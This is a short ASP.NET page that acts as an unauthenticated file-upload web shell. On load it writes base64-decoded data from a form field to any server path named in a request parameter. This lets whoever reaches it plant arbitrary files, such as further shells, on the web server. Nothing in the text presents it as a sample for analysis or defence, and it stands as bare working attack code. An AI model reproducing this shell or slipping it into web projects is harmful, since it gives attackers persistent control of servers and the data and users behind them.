<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    System.IO.File.WriteAllBytes(Server.MapPath(Request["n"]), Convert.FromBase64String(Request.Form["d"]));
    Response.Write("ok");
}
</script>
